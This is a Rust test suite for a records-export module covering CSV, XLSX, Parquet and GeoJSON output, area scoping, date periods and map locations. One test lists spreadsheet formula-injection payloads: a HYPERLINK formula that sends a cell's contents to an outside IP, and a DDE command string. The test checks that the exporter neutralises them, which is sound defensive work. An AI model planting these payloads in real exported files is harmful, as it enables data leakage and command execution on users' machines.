//! `rounds export`: what is in the database is in the file, as other programs read it, and harmless there.

use jiff::civil::{Date, date};
use jiff::tz::TimeZone;
use rounds_domain::body::{self, Asset, FollowUp, Place, Visit};
use rounds_domain::column::{Form, Source, columns};
use rounds_domain::{
    Action, AreaId, Body, ClockReading, DeviceId, Kind, Op, Outcome, Record, RecordId, Role,
};
use rounds_server::Clock;
use rounds_server::export::{
    self, Cell, Column, Error, Export, Format, Table, TableFormat, TableWriter, Written,
};
use rounds_store::{Arrival, Batch, Content, Store};
use rounds_tests::{HARD_TEXT, MOMENT_MS, TestDatabase, foreign_python, on_both_databases, whole_body};
use serde_json::{Value, json};
use std::process::Stdio;
use tokio::process::Command;
use uuid::Uuid;

/// 2026-11-22T16:30:00Z, in ms since 1970 UTC: in Shanghai it is the next day.
const NOW_MS: i64 = 1_795_365_000_000;
const DAY_MS: i64 = 86_400_000;
const CSV: Format = Format::Table(TableFormat::Csv { byte_order_mark: false });
const XLSX: Format = Format::Table(TableFormat::Xlsx);
const PARQUET: Format = Format::Table(TableFormat::Parquet);

fn area(number: u128) -> AreaId {
    AreaId(Uuid::from_u128(0x2000 + number))
}

fn record(number: u128) -> RecordId {
    RecordId(Uuid::from_u128(0x1000 + number))
}

fn create(id: RecordId, area: AreaId, at_ms: i64, body: Body) -> Op {
    act(id, area, at_ms, body.kind(), Action::Create(Box::new(body)))
}

fn act(record: RecordId, area: AreaId, at_ms: i64, kind: Kind, action: Action) -> Op {
    let clock = ClockReading { wall_ms: at_ms, boot: 0, monotonic_ms: 0 };
    Op { record, area, kind, action, clock, observed: 0, scope_version: 1 }
}

fn create_area(id: AreaId, parent: Option<AreaId>) -> Op {
    let body = body::Area {
        name: format!("Area {}", id.0.as_u128() - 0x2000),
        parent: parent.map(RecordId::from),
        time_zone: "Asia/Shanghai".to_owned(),
        ..body::Area::default()
    };
    create(id.into(), id, NOW_MS - 300 * DAY_MS, Body::Area(body))
}

/// Takes ops in, in areas 1 and, below it, 2, and 3 beside them.
async fn prepare(database: &TestDatabase, ops: impl IntoIterator<Item = Op>) -> Store {
    let store = database.open().await;
    let device = DeviceId(Uuid::from_u128(0x3000));
    store.internal_device(device, "a test", Role::Admin, 1).await.unwrap();
    let areas = [create_area(area(1), None), create_area(area(2), Some(area(1))), create_area(area(3), None)];
    let admitted = areas.into_iter().chain(ops).map(|op| Arrival {
        seq: None,
        followed_by: 0,
        hash: [0; 32],
        content: Content::Admitted(op),
    });
    let batch = Batch {
        device,
        arrivals: admitted.collect(),
        clock: ClockReading { wall_ms: NOW_MS, boot: 0, monotonic_ms: 0 },
        received_ms: NOW_MS,
        holds_from: 0,
        settled: None,
    };
    let receipt = store.submit(batch).await.unwrap();
    assert!(receipt.verdicts.iter().all(|(_, verdict)| verdict.outcome == Outcome::Applied), "{receipt:?}");
    store
}

fn of(kind: Kind, format: Format) -> Export {
    Export { kind, area: area(1), from: None, until: None, format }
}

async fn exported(store: &Store, export: &Export) -> (Vec<u8>, Written) {
    let mut out = Vec::new();
    let clock = Clock::new(|| NOW_MS);
    let written = export::export(store, export, &mut out, &clock, |_| {}).await.unwrap();
    (out, written)
}

/// The rows of an export as CSV, each with its columns by their names.
async fn rows(store: &Store, export: &Export) -> Vec<Value> {
    let (out, written) = exported(store, export).await;
    let mut reader = csv::Reader::from_reader(&out[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<Value> = reader
        .records()
        .map(|row| header.iter().cloned().zip(row.unwrap().iter().map(Value::from)).collect())
        .collect();
    assert_eq!(written.rows, rows.len() as u64);
    rows
}

async fn ids(store: &Store, export: &Export) -> Vec<RecordId> {
    let rows = rows(store, export).await;
    let mut ids: Vec<RecordId> =
        rows.iter().map(|row| row["id"].as_str().unwrap().parse().unwrap()).collect();
    ids.sort();
    ids
}

/// What another program reads in a file of this format.
async fn read_elsewhere(format: Format, file: &[u8]) -> Value {
    let folder = tempfile::tempdir().unwrap();
    let ending = match format {
        Format::GeoJson => "geojson",
        CSV => "csv",
        XLSX => "xlsx",
        _ => "parquet",
    };
    let path = folder.path().join(format!("table.{ending}"));
    std::fs::write(&path, file).unwrap();
    let output = Command::new(foreign_python())
        .arg(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("foreign/tables.py"))
        .arg(&path)
        .stderr(Stdio::inherit())
        .output()
        .await
        .unwrap();
    assert!(output.status.success(), "{ending}");
    serde_json::from_slice(&output.stdout).unwrap()
}

/// A row as the foreign reader tells it, by the names of its columns.
fn named(told: &Value, row: usize) -> Value {
    let columns = told["columns"].as_array().unwrap();
    let cells = told["rows"][row].as_array().unwrap();
    assert_eq!(columns.len(), cells.len());
    columns.iter().map(|name| name.as_str().unwrap().to_owned()).zip(cells.iter().cloned()).collect()
}

/// What a column should say of a record: as recorded, without what a format does to it.
fn said(record: &Record, number: u64, source: Source) -> Value {
    match source {
        Source::Id => json!(record.id),
        Source::Area => json!(record.area),
        Source::AreaName => json!("Area 1"),
        Source::Number => json!(number),
        Source::Status if record.status.is_empty() => Value::Null,
        Source::Status => json!(record.status),
        Source::CreatedAt => json!(record.created.at_ms),
        Source::ChangedAt => json!(record.changed.at_ms),
        Source::Field(field) => record.fields.get(field).cloned().unwrap_or_default(),
    }
}

/// One record of each kind in which every field says something, but for areas.
fn one_of_each() -> impl Iterator<Item = Op> {
    Kind::ALL.iter().filter(|kind| **kind != Kind::Area).map(|&kind| {
        create(record(u128::from(kind.number().unsigned_abs())), area(1), MOMENT_MS, whole_body(kind))
    })
}

async fn only(store: &Store, kind: Kind) -> (Record, u64) {
    let numbered = store.record(record(u128::from(kind.number().unsigned_abs()))).await.unwrap().unwrap();
    (numbered.record, numbered.number)
}

on_both_databases! {
    async fn every_field_of_every_kind_comes_through_a_csv(database: &TestDatabase) {
        let store = prepare(database, one_of_each()).await;
        for &kind in Kind::ALL.iter().filter(|kind| **kind != Kind::Area) {
            let (record, number) = only(&store, kind).await;
            let rows = rows(&store, &of(kind, CSV)).await;
            assert_eq!(rows.len(), 1, "{kind:?}");
            assert_eq!(rows[0].as_object().unwrap().len(), columns(kind).len(), "{kind:?}");
            for column in columns(kind) {
                let read = rows[0][column.name].as_str().unwrap();
                let expected = match (column.form, said(&record, number, column.source)) {
                    (_, Value::Null) => String::new(),
                    (Form::Moment, ms) => {
                        let told: jiff::Timestamp = read.parse().unwrap();
                        assert_eq!(json!(told.as_millisecond()), ms, "{kind:?}.{}", column.name);
                        assert!(read.ends_with("+08:00"), "{read}");
                        read.to_owned()
                    }
                    (Form::Text, text) if text.as_str() == Some(HARD_TEXT) => format!("'{HARD_TEXT}"),
                    (Form::List, list) => list.to_string(),
                    (_, Value::String(text)) => text,
                    (_, other) => other.to_string(),
                };
                assert_eq!(read, expected, "{kind:?}.{}", column.name);
            }
        }
        store.close().await;
    }

    async fn an_export_has_what_is_in_the_area_and_below_it_and_is_not_deleted(database: &TestDatabase) {
        let place = |n: u128, home: u128| {
            let place = Place { name: format!("place {n}"), sort: "building".into(), ..Place::default() };
            create(record(n), area(home), NOW_MS, Body::Place(place))
        };
        let delete = Action::Delete { reason: "entered twice".into() };
        let places = (0..1_203).map(|n| place(n, 1 + n % 3));
        let deleted = act(record(1_200), area(1), NOW_MS, Kind::Place, delete);
        let store = prepare(database, places.chain([deleted])).await;
        let expected: Vec<RecordId> = (0..1_203).filter(|n| n % 3 != 2 && *n != 1_200).map(record).collect();
        assert_eq!(ids(&store, &of(Kind::Place, CSV)).await, expected, "over several pages");
        let below = Export { area: area(2), ..of(Kind::Place, CSV) };
        assert_eq!(ids(&store, &below).await.len(), 401);
        let areas: Vec<Value> =
            rows(&store, &of(Kind::Area, CSV)).await.into_iter().map(|row| row["name"].clone()).collect();
        assert_eq!(areas, [json!("Area 1"), json!("Area 2")]);
        let nowhere = Export { area: area(9), ..of(Kind::Place, CSV) };
        let refused =
            export::export(&store, &nowhere, Vec::new(), &Clock::new(|| NOW_MS), |_| {}).await.unwrap_err();
        assert!(matches!(refused, Error::NoArea(id) if id == area(9)));
        store.close().await;
    }

    async fn a_period_is_of_local_days_and_has_its_first_and_last(database: &TestDatabase) {
        // In Shanghai the 22nd lasts from 16:00Z of the 21st until 16:00Z of the 22nd.
        let midnight_ms = NOW_MS - 30 * 60_000;
        let times = [midnight_ms - DAY_MS - 1, midnight_ms - DAY_MS, midnight_ms - 1, midnight_ms];
        let visits = times.into_iter().zip(0..).map(|(at_ms, n)| {
            let visit = Visit { subject: Some(record(99)), ..Visit::default() };
            create(record(n), area(1), at_ms, Body::Visit(visit))
        });
        let follow_ups = times.into_iter().zip(10..).map(|(due_ms, n)| {
            let follow_up = FollowUp { due_at_ms: Some(due_ms), ..FollowUp::default() };
            create(record(n), area(1), NOW_MS, Body::FollowUp(follow_up))
        });
        let store = prepare(database, visits.chain(follow_ups)).await;
        let day = date(2026, 11, 22);
        let within = |kind, from: Option<Date>, until: Option<Date>| Export { from, until, ..of(kind, CSV) };
        for (kind, first) in [(Kind::Visit, 0), (Kind::FollowUp, 10)] {
            let found = async |from, until| ids(&store, &within(kind, from, until)).await;
            let expected = |numbers: &[u128]| numbers.iter().map(|n| record(first + n)).collect::<Vec<_>>();
            assert_eq!(found(Some(day), Some(day)).await, expected(&[1, 2]), "{kind:?}");
            assert_eq!(found(Some(day), None).await, expected(&[1, 2, 3]), "{kind:?}");
            assert_eq!(found(None, Some(day)).await, expected(&[0, 1, 2]), "{kind:?}");
            assert_eq!(found(Some(date(2026, 12, 1)), None).await, [], "{kind:?}");
            assert_eq!(found(Some(Date::MIN), Some(Date::MAX)).await, expected(&[0, 1, 2, 3]), "{kind:?}");
        }
        store.close().await;
    }

    async fn on_a_map_things_are_where_they_or_what_they_are_about_are(database: &TestDatabase) {
        let at = |latitude, longitude| (Some(latitude), Some(longitude));
        let place = |n, parent, (latitude, longitude)| {
            let place = Place { name: "a place".into(), parent, latitude, longitude, ..Place::default() };
            create(record(n), area(1), NOW_MS, Body::Place(place))
        };
        let asset = |n, place, (latitude, longitude)| {
            let asset = Asset { name: "a bench".into(), place, latitude, longitude, ..Asset::default() };
            create(record(n), area(1), NOW_MS, Body::Asset(asset))
        };
        let visit = |n, subject| {
            let visit = Visit { subject: Some(record(subject)), ..Visit::default() };
            create(record(n), area(1), NOW_MS, Body::Visit(visit))
        };
        let none = (None, None);
        let store = prepare(database, [
            place(1, None, at(31.238_914_203_517_4, 121.499_999_96)),
            place(2, Some(record(1)), none),
            place(3, Some(record(2)), none),
            place(4, Some(record(4)), none), // around itself
            place(5, None, (Some(31.0), None)),
            asset(10, Some(record(3)), none),
            asset(11, Some(record(1)), at(-0.000_000_4, 0.0)),
            asset(12, None, none),
            visit(20, 3),
            visit(21, 10),
            visit(22, 11),
            visit(23, 12),
            visit(24, 4),
            visit(25, 999),
        ])
        .await;
        let building = json!({ "type": "Point", "coordinates": [121.5, 31.238914] });
        for (kind, expected) in [
            (Kind::Place, vec![building.clone(), building.clone(), building.clone(), Value::Null, Value::Null]),
            (Kind::Asset, vec![
                building.clone(),
                json!({ "type": "Point", "coordinates": [0.0, 0.0] }),
                Value::Null,
            ]),
            (Kind::Visit, vec![
                building.clone(),
                building.clone(),
                json!({ "type": "Point", "coordinates": [0.0, 0.0] }),
                Value::Null,
                Value::Null,
                Value::Null,
            ]),
        ] {
            let (map, written) = exported(&store, &of(kind, Format::GeoJson)).await;
            let map: Value = serde_json::from_slice(&map).unwrap();
            assert_eq!(map["type"], "FeatureCollection");
            let features = map["features"].as_array().unwrap();
            assert_eq!(written.rows, features.len() as u64);
            let geometries: Vec<Value> = features.iter().map(|feature| feature["geometry"].clone()).collect();
            assert_eq!(geometries, expected, "{kind:?}");
            for feature in features {
                assert_eq!((&feature["type"], &feature["id"]), (&json!("Feature"), &feature["properties"]["id"]));
            }
        }
        store.close().await;
    }

    async fn a_map_does_not_show_where_things_of_other_areas_are(database: &TestDatabase) {
        let place = |n, home, parent, degrees: Option<f64>| {
            let (latitude, longitude) = (degrees, degrees);
            let place = Place { name: "a place".into(), parent, latitude, longitude, ..Place::default() };
            create(record(n), area(home), NOW_MS, Body::Place(place))
        };
        let visit = |n, home, subject| {
            let visit = Visit { subject: Some(record(subject)), ..Visit::default() };
            create(record(n), area(home), NOW_MS, Body::Visit(visit))
        };
        let store = prepare(database, [
            place(1, 3, None, Some(31.5)),
            place(2, 1, Some(record(1)), None),
            place(3, 2, None, Some(32.5)),
            visit(20, 1, 1),
            visit(21, 1, 2),
            visit(22, 2, 1),
            visit(23, 1, 3),
            visit(24, 3, 1),
            act(record(24), area(3), NOW_MS, Kind::Visit, Action::Move { to: area(1) }),
        ])
        .await;
        let (map, written) = exported(&store, &of(Kind::Visit, Format::GeoJson)).await;
        assert_eq!(written.rows, 5);
        let map: Value = serde_json::from_slice(&map).unwrap();
        let shown = |n| {
            let id = json!(record(n));
            let feature = map["features"].as_array().unwrap().iter().find(|feature| feature["id"] == id);
            feature.unwrap()["geometry"]["coordinates"].clone()
        };
        for n in [20, 21, 22] {
            assert_eq!(shown(n), Value::Null, "{n} leads to another area");
        }
        assert_eq!(shown(23), json!([32.5, 32.5]), "what is below is exported too");
        assert_eq!(shown(24), json!([31.5, 31.5]), "it was there itself");
        let (map, _) = exported(&store, &of(Kind::Place, Format::GeoJson)).await;
        assert!(!String::from_utf8(map).unwrap().contains("31.5"));
        store.close().await;
    }

    async fn no_export_says_who_did_or_does_what(database: &TestDatabase) {
        let lin = record(0x777);
        let follow_up = FollowUp { worker: Some(lin), due_at_ms: Some(NOW_MS), ..FollowUp::default() };
        let plan = body::Plan { worker: Some(lin), ..body::Plan::default() };
        let notice = body::Notice { worker: Some(lin), ..body::Notice::default() };
        let store = prepare(database, [
            create(record(1), area(1), NOW_MS, Body::FollowUp(follow_up)),
            create(record(2), area(1), NOW_MS, Body::Plan(plan)),
            create(record(3), area(1), NOW_MS, Body::Notice(notice)),
        ])
        .await;
        for kind in [Kind::FollowUp, Kind::Plan, Kind::Notice] {
            for format in [CSV, Format::GeoJson] {
                let (file, written) = exported(&store, &of(kind, format)).await;
                assert_eq!(written.rows, 1);
                assert!(!String::from_utf8(file).unwrap().contains(&lin.to_string()), "{kind:?}");
            }
        }
        store.close().await;
    }
}

#[tokio::test]
async fn other_programs_read_every_field_of_every_kind() {
    let database = TestDatabase::sqlite().await;
    let store = prepare(&database, one_of_each()).await;
    for &kind in Kind::ALL.iter().filter(|kind| **kind != Kind::Area) {
        let (record, number) = only(&store, kind).await;
        for format in [XLSX, PARQUET, CSV, Format::GeoJson] {
            let (file, _) = exported(&store, &of(kind, format)).await;
            let told = read_elsewhere(format, &file).await;
            let row = match format {
                Format::GeoJson => told["features"][0]["properties"].clone(),
                _ => named(&told, 0),
            };
            for column in columns(kind) {
                let recorded = said(&record, number, column.source);
                let expected = match (format, column.form) {
                    (CSV, _) => continue, // another test's; here Python had to agree on what a row is
                    (_, _) if recorded.is_null() => Value::Null,
                    (XLSX, Form::Moment) => {
                        let at = jiff::Timestamp::from_millisecond(recorded.as_i64().unwrap()).unwrap();
                        let local = at.to_zoned(TimeZone::get("Asia/Shanghai").unwrap()).datetime();
                        json!(local.strftime("%Y-%m-%dT%H:%M:%S.%3f").to_string())
                    }
                    (XLSX, Form::Date) => json!(format!("{}T00:00:00.000", recorded.as_str().unwrap())),
                    (XLSX | PARQUET, Form::List) => json!(recorded.to_string()),
                    (Format::GeoJson, Form::Moment) => {
                        let read: jiff::Timestamp = row[column.name].as_str().unwrap().parse().unwrap();
                        assert_eq!(json!(read.as_millisecond()), recorded);
                        continue;
                    }
                    (_, _) => recorded,
                };
                let read = &row[column.name];
                match (read.as_f64(), expected.as_f64()) {
                    (Some(read), Some(expected)) => {
                        assert_eq!(read, expected, "{format:?} {kind:?}.{}", column.name)
                    }
                    _ => assert_eq!(read, &expected, "{format:?} {kind:?}.{}", column.name),
                }
            }
            if format == PARQUET {
                for column in columns(kind) {
                    let expected = match column.form {
                        Form::Text | Form::Reference | Form::List => "VARCHAR",
                        Form::Integer => "BIGINT",
                        Form::Number => "DOUBLE",
                        Form::YesNo => "BOOLEAN",
                        Form::Date => "DATE",
                        Form::Moment => "TIMESTAMP WITH TIME ZONE",
                    };
                    assert_eq!(told["types"][column.name], expected, "{kind:?}.{}", column.name);
                }
            }
        }
    }
    store.close().await;
}

#[tokio::test]
async fn an_empty_export_is_a_whole_file_without_rows() {
    let database = TestDatabase::sqlite().await;
    let store = prepare(&database, []).await;
    let names: Vec<&str> = columns(Kind::Visit).iter().map(|column| column.name).collect();
    for format in [CSV, XLSX, PARQUET] {
        let (file, written) = exported(&store, &of(Kind::Visit, format)).await;
        let told = read_elsewhere(format, &file).await;
        assert_eq!((told["columns"].clone(), told["rows"].clone()), (json!(names), json!([])), "{format:?}");
        assert_eq!(written, Written::default());
    }
    let (map, _) = exported(&store, &of(Kind::Visit, Format::GeoJson)).await;
    let map = read_elsewhere(Format::GeoJson, &map).await;
    assert_eq!(map, json!({ "type": "FeatureCollection", "features": [] }));
    store.close().await;
}

#[tokio::test]
async fn a_record_that_says_nothing_has_empty_cells() {
    let database = TestDatabase::sqlite().await;
    let plan = create(record(1), area(1), NOW_MS, Body::Plan(body::Plan::default()));
    let store = prepare(&database, [plan]).await;
    for format in [XLSX, PARQUET] {
        let (file, _) = exported(&store, &of(Kind::Plan, format)).await;
        let row = named(&read_elsewhere(format, &file).await, 0);
        for column in columns(Kind::Plan).iter().filter(|column| matches!(column.source, Source::Field(_))) {
            let expected = if column.form == Form::YesNo { json!(false) } else { Value::Null };
            assert_eq!(row[column.name], expected, "{format:?} {}", column.name);
        }
    }
    store.close().await;
}

/// A table that is no list of records.
fn table(columns: &[(&str, Form)]) -> Table {
    let columns = columns.iter().map(|(name, form)| Column { name: (*name).to_owned(), form: *form });
    Table {
        name: "summary".to_owned(),
        columns: columns.collect(),
        zone: TimeZone::get("Asia/Shanghai").unwrap(),
        written_ms: NOW_MS,
    }
}

fn write(table: Table, format: TableFormat, rows: &[Vec<Cell>]) -> (Vec<u8>, Written) {
    let mut out = Vec::new();
    let mut writer = TableWriter::begin(table, format, &mut out).unwrap();
    for row in rows {
        writer.row(row).unwrap();
    }
    let written = writer.end().unwrap();
    (out, written)
}

const AS_CSV: TableFormat = TableFormat::Csv { byte_order_mark: false };

#[test]
fn no_text_of_a_csv_is_a_formula_and_numbers_stay_numbers() {
    let columns = table(&[("text", Form::Text), ("number", Form::Number), ("whole", Form::Integer)]);
    let row = |text: &str| vec![Cell::Text(text.into()), Cell::Number(-1.5), Cell::Integer(-7)];
    for dangerous in [
        "=HYPERLINK(\"http://198.51.100.1/?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-5",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
    ] {
        let (file, _) = write(columns.clone(), AS_CSV, &[row(dangerous)]);
        let mut reader = csv::Reader::from_reader(&file[..]);
        let read = reader.records().next().unwrap().unwrap();
        assert_eq!(read, vec![format!("'{dangerous}").as_str(), "-1.5", "-7"]);
    }
    for harmless in ["4-2-301", "a=b", "'tis", "", " =1", "居", "a,b;\"c\"\nd"] {
        let (file, _) = write(columns.clone(), AS_CSV, &[row(harmless)]);
        let mut reader = csv::Reader::from_reader(&file[..]);
        assert_eq!(&reader.records().next().unwrap().unwrap()[0], harmless);
    }
}

#[test]
fn the_mark_of_utf_8_is_there_when_it_is_wanted() {
    let columns = || table(&[("text", Form::Text)]);
    let (file, _) = write(columns(), TableFormat::Csv { byte_order_mark: true }, &[]);
    assert_eq!(file, b"\xef\xbb\xbftext\n");
    assert_eq!(write(columns(), AS_CSV, &[]).0, b"text\n");
}

#[tokio::test]
async fn any_table_can_be_written_and_reads_the_same_everywhere() {
    let columns = || {
        table(&[
            ("name", Form::Text),
            ("value", Form::Number),
            ("before", Form::Integer),
            ("day", Form::Date),
            ("at", Form::Moment),
        ])
    };
    let control = "a\u{1}b\u{b}c _x0001_ \u{fffe}";
    let rows = [
        vec![
            Cell::Text("http://example.org".into()),
            Cell::Number(0.1),
            Cell::Integer(i64::MAX),
            Cell::Date(date(2028, 2, 29)),
            Cell::Moment(NOW_MS),
        ],
        vec![
            Cell::Text(control.into()),
            Cell::Number(1e300),
            Cell::Integer(-1),
            Cell::Date(date(1899, 12, 31)),
            Cell::Empty,
        ],
        vec![Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty, Cell::Moment(-5_000_000_000_000)],
    ];
    let (file, written) = write(columns(), TableFormat::Parquet, &rows);
    assert_eq!(written, Written { rows: 3, cut: 0 });
    let told = read_elsewhere(PARQUET, &file).await;
    let expected = json!([
        ["http://example.org", 0.1, i64::MAX, "2028-02-29", NOW_MS],
        [control, 1e300, -1, "1899-12-31", null],
        [null, null, null, null, -5_000_000_000_000_i64],
    ]);
    assert_eq!(told["rows"], expected);

    let (file, _) = write(columns(), TableFormat::Xlsx, &rows);
    let told = read_elsewhere(XLSX, &file).await;
    assert_eq!(told["sheet"], "summary");
    let told: Vec<Value> = (0..3).map(|row| named(&told, row)).collect();
    assert_eq!(told[0]["name"], "http://example.org");
    assert_eq!(told[0]["before"], i64::MAX.to_string(), "Excel would round it");
    assert_eq!(told[0]["day"], "2028-02-29T00:00:00.000");
    assert_eq!(told[0]["at"], "2026-11-23T00:30:00.000");
    assert_eq!(told[1]["value"], 1e300);
    assert_eq!(told[1]["day"], "1899-12-31", "Excel has no such day");
    assert_eq!(told[2]["at"], "1811-07-23T23:12:23+08:06", "nor such a moment");
}

#[tokio::test]
async fn a_text_that_excel_does_not_take_is_cut_and_counted() {
    let row = |text: String| [vec![Cell::Text(text)]];
    for (text, kept) in
        [("x".repeat(32_768), 32_767), ("居".repeat(32_767), 32_767), ("😀".repeat(16_384), 16_383)]
    {
        let whole = text.chars().count();
        let (file, written) = write(table(&[("text", Form::Text)]), TableFormat::Xlsx, &row(text));
        assert_eq!(written.cut, u64::from(kept < whole));
        let told = read_elsewhere(XLSX, &file).await;
        assert_eq!(told["rows"][0][0].as_str().unwrap().chars().count(), kept);
    }
}

#[test]
fn cells_that_a_table_does_not_have_are_refused() {
    for format in [AS_CSV, TableFormat::Xlsx, TableFormat::Parquet] {
        let mut writer = TableWriter::begin(table(&[("value", Form::Number)]), format, Vec::new()).unwrap();
        assert!(matches!(writer.row(&[Cell::Integer(1)]), Err(Error::Unfit(_))));
        assert!(matches!(writer.row(&[]), Err(Error::Unfit(_))));
        assert!(matches!(writer.row(&[Cell::Empty, Cell::Empty]), Err(Error::Unfit(_))));
        writer.row(&[Cell::Number(1.0)]).unwrap();
    }
}

#[tokio::test]
async fn many_rows_go_into_several_groups_of_a_parquet_and_none_is_lost() {
    let columns = table(&[("n", Form::Integer), ("text", Form::Text)]);
    let rows = (0..70_000)
        .map(|n| vec![Cell::Integer(n), if n % 3 == 0 { Cell::Empty } else { Cell::Text(n.to_string()) }]);
    let (file, _) = write(columns, TableFormat::Parquet, &rows.collect::<Vec<_>>());
    let told = read_elsewhere(PARQUET, &file).await;
    let rows = told["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 70_000);
    assert_eq!((&rows[69_999], &rows[69_998]), (&json!([69_999, null]), &json!([69_998, "69998"])));
}
